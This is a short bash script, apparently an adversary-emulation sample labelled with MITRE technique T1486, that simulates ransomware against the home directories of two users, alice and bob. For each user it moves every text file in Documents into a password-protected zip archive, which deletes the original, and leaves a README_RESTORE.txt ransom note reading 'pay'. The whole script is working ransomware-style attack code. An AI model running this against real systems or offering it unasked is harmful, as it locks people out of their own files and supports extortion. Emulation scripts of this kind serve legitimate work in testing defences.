#!/bin/bash
# T1486: Documents are moved into archives with a password, and a note is left.
for h in /home/alice /home/bob; do cd $h/Documents; for f in *.txt; do zip -q -m -P s3cret "$f.zip" "$f"; done; echo 'pay' >$h/README_RESTORE.txt; done
